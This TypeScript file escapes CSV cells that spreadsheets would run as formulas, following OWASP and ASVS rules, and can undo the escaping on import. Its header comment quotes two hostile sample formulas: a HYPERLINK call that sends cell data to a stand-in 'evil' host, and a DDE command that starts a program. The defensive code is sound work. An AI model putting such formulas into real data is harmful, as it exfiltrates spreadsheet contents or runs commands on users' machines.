// Cells that a spreadsheet shows but never runs. Excel, LibreOffice and Google Sheets read a CSV cell that starts
// with = + - @ (or a tab or carriage return before one) as a formula, and a formula in a lead's name can
// exfiltrate the sheet (=HYPERLINK("https://evil/?"&A2)) or, in old Excel, start programs through DDE.

// The rule follows OWASP's CSV Injection page: a cell starting with =, +, -, @, tab (0x09) or carriage return (0x0D)
// gets a leading single quote, which the spreadsheet takes as "this is text". Beyond it:
// - ASVS 5 (1.2.10) adds the null character, and so do we.
// - Spaces or line feeds before a trigger do not disarm it in every reader (LibreOffice can trim them on import),
//   so the first character after them is the one checked.
// - Full-width ＝ ＋ － ＠ are treated like their ASCII forms: Excel with an East Asian input locale can take them
//   as formula signs.
// - The pipe is not escaped on its own. OWASP's current guidance does not list it: it only matters inside a formula
//   (the DDE form =cmd|'/c calc'!A1), which the leading trigger already disarms.
// - Separators and quotes inside a cell (OWASP's other warning: a "," or '"' could start a new cell whose first
//   character is a trigger) are handled by the CSV writer, csv-stringify, which quotes such cells per RFC 4180.
// The cost is a visible quote in front of negative numbers and international numbers: '+14155550100 still reads
// as the number, and can be pasted back; our import removes the quote again (see unescapeSpreadsheetCell).

const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r', '\0', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);

/** The index of the first character that is not a space or a line feed. */
function firstSignificant(text: string, from: number): number {
  let index = from;
  while (index < text.length && (text.charCodeAt(index) === 0x20 || text.charCodeAt(index) === 0x0a)) index++;
  return index;
}

const startsLikeFormula = (text: string, from: number): boolean => {
  const index = firstSignificant(text, from);
  return index < text.length && TRIGGERS.has(text.charAt(index));
};

/** The cell as written to a CSV export or report: unchanged, or with a leading ' when a spreadsheet would run it. */
export function spreadsheetSafeCell(value: string): string {
  return startsLikeFormula(value, 0) ? `'${value}` : value;
}

/**
 * A cell read back from a file we (or a careful tool) escaped: '+14155550100 is +14155550100. Only a quote in
 * front of a formula trigger is removed, so O'Brien and 'quoted' text stay as they are.
 */
export function unescapeSpreadsheetCell(value: string): string {
  return value.charCodeAt(0) === 0x27 && startsLikeFormula(value, 1) ? value.slice(1) : value;
}
